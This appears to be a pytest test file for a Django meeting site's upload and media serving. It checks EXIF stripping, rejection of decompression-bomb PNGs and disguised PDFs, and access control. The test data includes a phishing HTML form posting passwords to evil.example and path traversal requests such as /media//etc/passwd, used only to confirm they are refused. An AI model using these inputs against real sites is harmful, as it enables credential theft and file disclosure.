import datetime as dt
import io
import re
import struct
import zlib

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from PIL import Image

from meetings.models import Document, Meeting, Photo
from partners.models import Partner
from tests.helpers import Page, form_of, staff

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def jpeg_with_gps(width=2000, height=1200):
    image = Image.new("RGB", (width, height), "#336699")
    exif = Image.Exif()
    exif[0x010E] = "SECRET-DESCRIPTION"
    exif[0x8825] = {1: "N", 2: (41.0, 19.0, 30.0), 3: "E", 4: (19.0, 26.0, 0.0)}
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif.tobytes())
    assert b"SECRET-DESCRIPTION" in buffer.getvalue()
    return SimpleUploadedFile("camera.jpg", buffer.getvalue(), "image/jpeg")


def png_header_only(width, height):
    """A tiny PNG that claims to be width × height: a decompression bomb's calling card."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 16)
    return SimpleUploadedFile(
        "bomb.png",
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b""),
        "image/png",
    )


def pdf():
    return SimpleUploadedFile(
        "agenda.pdf", b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", "application/pdf"
    )


def with_photo(meeting, upload, **fields):
    data = form_of(meeting)
    data.update(
        {
            "photos-TOTAL_FORMS": "1",
            "photos-0-image": upload,
            "photos-0-alt_text_sq": "Pjesëmarrësit në sallë",
            "photos-0-caption_sq": "Takimi në Durrës",
            "photos-0-credit": "Bashkia Durrës",
            "photos-0-licence": "CC BY 4.0",
            "photos-0-order": "0",
            **fields,
        }
    )
    return data


def with_document(meeting, upload):
    data = form_of(meeting)
    data.update(
        {
            "documents-TOTAL_FORMS": "1",
            "documents-0-kind": "agenda",
            "documents-0-title_sq": "Rendi i ditës",
            "documents-0-language": "sq",
            "documents-0-file": upload,
            "documents-0-order": "0",
        }
    )
    return data


@pytest.fixture
def meeting():
    return Meeting.objects.get(slug="local-durres-2016-07-28")


def post(staff_client, meeting, data):
    return staff_client.post(f"/admin/meetings/meeting/{meeting.pk}/change/", data)


def inline_errors(response):
    return " ".join(
        str(error)
        for formset in response.context["inline_admin_formsets"]
        for error in formset.formset.errors
    )


def test_photo_gets_renditions_without_exif_and_the_page_uses_srcset(
    staff_client, meeting, media_root, client
):
    response = post(staff_client, meeting, with_photo(meeting, jpeg_with_gps()))
    assert response.status_code == 302
    photo = Photo.objects.get(meeting=meeting)
    assert [r["width"] for r in photo.renditions] == [480, 960, 1600]
    assert photo.renditions[0]["height"] == 288
    for rendition in photo.renditions:
        for key in ("webp", "jpeg"):
            data = (media_root / rendition[key]).read_bytes()
            assert b"SECRET-DESCRIPTION" not in data
            with Image.open(io.BytesIO(data)) as image:
                assert image.width == rendition["width"]
                assert not image.getexif()
    assert b"SECRET-DESCRIPTION" not in (media_root / photo.image.name).read_bytes()

    page = Page(client.get(f"/en/meetings/{meeting.slug}/").content.decode())
    [img] = [a for t, a in page.tags if t == "img" and "srcset" in a]
    assert img["srcset"].count("w,") == 2 and img["srcset"].endswith("1600w")
    assert img["width"] == "1600" and img["height"] == "960"
    assert img["alt"]
    [source] = page.find_all("source", type="image/webp")
    assert ".webp 480w" in source["srcset"]


def test_small_photo_is_not_enlarged(staff_client, meeting):
    post(staff_client, meeting, with_photo(meeting, jpeg_with_gps(600, 400)))
    assert [r["width"] for r in Photo.objects.get().renditions] == [480, 600]


def test_photo_needs_alt_text(staff_client, meeting):
    data = with_photo(meeting, jpeg_with_gps(), **{"photos-0-alt_text_sq": ""})
    response = post(staff_client, meeting, data)
    assert response.status_code == 200
    assert "required" in inline_errors(response)
    assert not Photo.objects.exists()


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (SimpleUploadedFile("fake.jpg", b"just some text\n" * 20, "image/jpeg"), "valid image"),
        (png_header_only(20000, 20000), "too many pixels"),
    ],
    ids=["text-renamed-jpg", "20000x20000"],
)
def test_bad_images_are_rejected_and_nothing_is_saved(
    staff_client, meeting, media_root, upload, message
):
    response = post(staff_client, meeting, with_photo(meeting, upload))
    assert response.status_code == 200
    assert message in inline_errors(response)
    assert not Photo.objects.exists()
    assert not any(media_root.rglob("*.*"))


def test_oversized_image_is_rejected(staff_client, meeting, settings):
    settings.IMAGE_MAX_BYTES = 1000
    response = post(staff_client, meeting, with_photo(meeting, jpeg_with_gps()))
    assert "images may be at most" in inline_errors(response)
    assert not Photo.objects.exists()


def test_pdf_is_accepted_and_listed_with_its_language(staff_client, meeting, client):
    response = post(staff_client, meeting, with_document(meeting, pdf()))
    assert response.status_code == 302
    document = Document.objects.get()
    html = client.get(f"/en/meetings/{meeting.slug}/").content.decode()
    assert f'href="{document.file.url}" hreflang="sq" type="application/pdf"' in html


@pytest.mark.parametrize(
    "upload",
    [
        SimpleUploadedFile("minutes.pdf", b"<html>not a pdf</html>", "application/pdf"),
        SimpleUploadedFile("minutes.pdf", b"%PDF-1.4 truncated", "application/pdf"),
    ],
    ids=["html-named-pdf", "truncated"],
)
def test_fake_pdf_is_rejected(staff_client, meeting, upload):
    response = post(staff_client, meeting, with_document(meeting, upload))
    assert response.status_code == 200
    assert "not a PDF" in inline_errors(response)
    assert not Document.objects.exists()


def test_oversized_pdf_is_rejected(staff_client, meeting, settings):
    settings.DOCUMENT_MAX_BYTES = 10
    response = post(staff_client, meeting, with_document(meeting, pdf()))
    assert "documents may be at most" in inline_errors(response)
    assert not Document.objects.exists()


# The policy every media answer carries instead of the site's (README, "Media serving").
MEDIA_CSP = (
    "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox; "
    "form-action 'none'; frame-ancestors 'none'; base-uri 'none'"
)
PDF_BYTES = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
# What the issue reproduced: PDF magic bytes around an HTML page, under an .html name.
PHISHING_PDF = (
    b"%PDF-1.4<html><body><form action='https://evil.example/steal' method='post'>"
    b"<input name='password' type='password'></form></body></html>\n%%EOF\n"
)


@pytest.fixture
def visitor():
    return Client()


def media_paths(meeting):
    """The /media/ address of every file of a meeting: originals, renditions, documents."""
    paths = []
    for photo in meeting.photos.all():
        paths.append(photo.image.url)
        paths += [source[key] for source in photo.sources for key in ("webp_url", "jpeg_url")]
    paths += [document.file.url for document in meeting.documents.all()]
    return paths


def attach_files(meeting):
    photo = Photo(meeting=meeting, alt_text="Hall", caption="Hall")
    photo.image = jpeg_with_gps(800, 600)
    photo.save()
    document = Document.objects.create(
        meeting=meeting,
        kind="agenda",
        title="Agenda",
        language="en",
        file=ContentFile(PDF_BYTES, name="agenda.pdf"),
    )
    return photo, document


def unpublish(meeting, **changes):
    changes = changes or {"publication": Meeting.Publication.DRAFT}
    for name, value in changes.items():
        setattr(meeting, name, value)
    meeting.save()


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("name", ["agenda.html", "agenda.pdf.html", "agenda"])
def test_pdf_bytes_under_another_name_are_refused(staff_client, meeting, media_root, name):
    upload = SimpleUploadedFile(name, PHISHING_PDF, "application/pdf")
    response = post(staff_client, meeting, with_document(meeting, upload))
    assert response.status_code == 200
    assert f"“{name}” is not a PDF file: only files ending in .pdf can be uploaded." in (
        inline_errors(response)
    )
    assert not Document.objects.exists()
    assert not any(media_root.rglob("*.*"))


def test_pdf_extension_is_read_case_insensitively(staff_client, meeting):
    upload = SimpleUploadedFile("AGENDA.PDF", PDF_BYTES, "application/pdf")
    assert post(staff_client, meeting, with_document(meeting, upload)).status_code == 302
    assert Document.objects.get().file.name.endswith(".pdf")


def test_stored_names_are_random_with_the_right_extensions(staff_client, meeting):
    post(staff_client, meeting, with_document(meeting, pdf()))
    post(staff_client, meeting, with_photo(meeting, jpeg_with_gps(600, 400)))
    png = io.BytesIO()
    Image.new("RGB", (600, 400), "#ffcc00").save(png, "PNG")
    upload = SimpleUploadedFile("Durrës 2016 (final).png", png.getvalue(), "image/png")
    post(staff_client, meeting, with_photo(meeting, upload, **{"photos-0-order": "1"}))

    [document] = Document.objects.all()
    assert re.fullmatch(r"documents/[0-9a-f]{32}\.pdf", document.file.name)
    photos = list(Photo.objects.all())
    assert len(photos) == 2
    for photo in photos:
        [hex_name] = re.fullmatch(r"photos/([0-9a-f]{32})\.jpg", photo.image.name).groups()
        for rendition in photo.renditions:
            width = rendition["width"]
            assert rendition["webp"] == f"renditions/photos/{hex_name}-{width}.webp"
            assert rendition["jpeg"] == f"renditions/photos/{hex_name}-{width}.jpg"
    assert photos[0].image.name != photos[1].image.name


def test_accepted_pdf_is_served_as_a_download_with_the_media_policy(staff_client, meeting, visitor):
    post(staff_client, meeting, with_document(meeting, pdf()))
    document = Document.objects.get()
    response = visitor.get(document.file.url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="local-durres-2016-07-28-agenda-sq.pdf"'
    )
    # The header the browser receives, after django-csp's middleware has seen the answer.
    assert response["Content-Security-Policy"] == MEDIA_CSP
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "public, max-age=3600"
    assert not response.cookies
    assert body(response) == pdf().read()


def test_photos_are_served_as_images_with_the_media_policy(meeting, visitor):
    photo, _document = attach_files(meeting)
    response = visitor.get(photo.image.url)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Security-Policy"] == MEDIA_CSP
    assert "attachment" not in response.get("Content-Disposition", "")
    webp = visitor.get(photo.sources[0]["webp_url"])
    assert webp["Content-Type"] == "image/webp"
    assert body(webp)[8:12] == b"WEBP"


def test_partners_images_stay_public(visitor, django_assert_num_queries):
    partner = Partner.objects.get(slug="teruel")
    png = io.BytesIO()
    Image.new("RGB", (40, 30), "#aa0000").save(png, "PNG")
    partner.image = ContentFile(png.getvalue(), name="escudo.png")
    partner.save()
    with django_assert_num_queries(1):
        response = visitor.get(partner.image.url)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Security-Policy"] == MEDIA_CSP
    assert body(response) == png.getvalue()


@pytest.mark.parametrize(
    "changes",
    [
        {"publication": Meeting.Publication.DRAFT},
        {"published_at": timezone.now() + dt.timedelta(days=3)},
    ],
    ids=["draft", "scheduled"],
)
def test_files_of_an_unpublished_meeting_are_for_its_editors_only(
    meeting, visitor, monkeypatch, changes
):
    unpublish(meeting, **changes)
    attach_files(meeting)
    paths = media_paths(meeting)
    assert len(paths) == 1 + 2 * 2 + 1  # original, two widths × two formats, document

    durres_editor = staff(Client(), "ana", "Partner editors: durres", monkeypatch)
    teruel_editor = staff(Client(), "pilar", "Partner editors: teruel", monkeypatch)
    for path in paths:
        assert visitor.get(path).status_code == 404, path
        assert teruel_editor.get(path).status_code == 404, path
        response = durres_editor.get(path)
        assert response.status_code == 200, path
        assert response["Cache-Control"] == "private, no-store"
        assert response["Content-Security-Policy"] == MEDIA_CSP


def test_files_go_offline_when_their_meeting_is_unpublished(meeting, visitor):
    attach_files(meeting)
    paths = media_paths(meeting)
    assert [visitor.get(path).status_code for path in paths] == [200] * len(paths)
    unpublish(meeting)
    assert [visitor.get(path).status_code for path in paths] == [404] * len(paths)


@pytest.mark.parametrize(
    "path",
    [
        "/media/../manage.py",
        "/media//etc/passwd",
        "/media/documents/../../manage.py",
        "/media/documents/orphan.pdf",
        "/media/photos/orphan.jpg",
        "/media/renditions/photos/orphan-480.webp",
        "/media/",
    ],
)
def test_unknown_files_and_escapes_are_not_found(visitor, media_root, path):
    (media_root / "documents").mkdir()
    (media_root / "documents" / "orphan.pdf").write_bytes(PDF_BYTES)
    assert visitor.get(path).status_code == 404


def test_a_rendition_name_must_be_one_of_the_photos_renditions(meeting, visitor, media_root):
    photo, _document = attach_files(meeting)
    stem = photo.image.name.removesuffix(".jpg")
    forged = media_root / f"renditions/{stem}-999.webp"
    forged.write_bytes(b"RIFF....WEBP")
    assert visitor.get(f"/media/renditions/{stem}-999.webp").status_code == 404


def test_a_media_request_costs_one_query(meeting, visitor, django_assert_num_queries):
    photo, document = attach_files(meeting)
    for path in (document.file.url, photo.image.url, photo.sources[0]["jpeg_url"]):
        with django_assert_num_queries(1):
            assert visitor.get(path).status_code == 200
    unpublish(meeting)
    with django_assert_num_queries(1):
        assert visitor.get(document.file.url).status_code == 404


def test_accel_redirect_mode_leaves_the_bytes_to_nginx(meeting, visitor, settings):
    settings.MEDIA_ACCEL_REDIRECT = "/_protected_media/"
    photo, document = attach_files(meeting)
    response = visitor.get(document.file.url)
    assert response.status_code == 200
    assert response["X-Accel-Redirect"] == f"/_protected_media/{document.file.name}"
    assert response.content == b""
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Security-Policy"] == MEDIA_CSP
    assert response["X-Content-Type-Options"] == "nosniff"
    image = visitor.get(photo.image.url)
    assert image["X-Accel-Redirect"] == f"/_protected_media/{photo.image.name}"
    assert image.content == b""
    unpublish(meeting)
    refused = visitor.get(document.file.url)
    assert refused.status_code == 404
    assert "X-Accel-Redirect" not in refused


def test_requests_may_carry_the_largest_upload(settings):
    assert settings.MAX_REQUEST_BYTES == settings.DOCUMENT_MAX_BYTES + 1024 * 1024
    assert settings.MAX_REQUEST_BYTES > settings.IMAGE_MAX_BYTES


# The heading and a piece of the explanation, as the catalogues have them.
TOO_LARGE = {
    "sq": ("Kërkesa është shumë e madhe", "dërgojini skedarët e mëdhenj një nga një"),
    "el": ("Το αίτημα είναι πολύ μεγάλο", "στείλτε τα μεγάλα αρχεία ένα ένα"),
    "it": ("Richiesta troppo grande", "invia i file grandi uno alla volta"),
    "en": ("Request too large", "send large files one at a time"),
}


@pytest.mark.parametrize(
    ("path", "headers", "language"),
    [
        ("/el/meetings/", {}, "el"),
        ("/sq/", {"HTTP_ACCEPT_LANGUAGE": "el"}, "sq"),
        ("/admin/meetings/meeting/1/change/", {"HTTP_ACCEPT_LANGUAGE": "el,en;q=0.5"}, "el"),
        ("/admin/meetings/meeting/1/change/", {"HTTP_ACCEPT_LANGUAGE": "it"}, "it"),
        (
            "/admin/meetings/meeting/1/change/",
            {"HTTP_ACCEPT_LANGUAGE": "el", "HTTP_COOKIE": "django_language=sq"},
            "sq",
        ),
        ("/admin/login/", {"HTTP_ACCEPT_LANGUAGE": "en"}, "en"),
    ],
    ids=["greek-url", "albanian-url", "greek-browser", "italian-browser", "albanian-cookie", "en"],
)
def test_an_oversized_request_gets_a_translated_413(visitor, settings, path, headers, language):
    length = settings.MAX_REQUEST_BYTES + 1
    response = visitor.generic("POST", path, b"x", CONTENT_LENGTH=str(length), **headers)
    assert response.status_code == 413
    page = Page(response.content.decode())
    assert page.find_all("html")[0]["lang"] == language
    heading, advice = TOO_LARGE[language]
    assert heading in page.all_text
    assert advice in page.all_text
    assert response["Cache-Control"] == "no-store"


def test_a_document_of_the_largest_allowed_size_goes_through(staff_client, meeting, settings):
    head, tail = b"%PDF-1.4\n", b"\n%%EOF\n"
    padding = b"0" * (settings.DOCUMENT_MAX_BYTES - len(head) - len(tail))
    upload = SimpleUploadedFile("final-report.pdf", head + padding + tail, "application/pdf")
    response = post(staff_client, meeting, with_document(meeting, upload))
    assert response.status_code == 302
    assert Document.objects.get().file.size == settings.DOCUMENT_MAX_BYTES


@pytest.mark.parametrize("language", ["sq", "el"])
def test_the_413_page_for_nginx_follows_the_browser(visitor, language):
    response = visitor.get("/errors/request-too-large", HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 413
    page = Page(response.content.decode())
    assert page.find_all("html")[0]["lang"] == language
    assert TOO_LARGE[language][0] in page.all_text
    # nginx turns the refused POST into a GET; a proxy that keeps the POST gets it too.
    assert visitor.post("/errors/request-too-large").status_code == 413
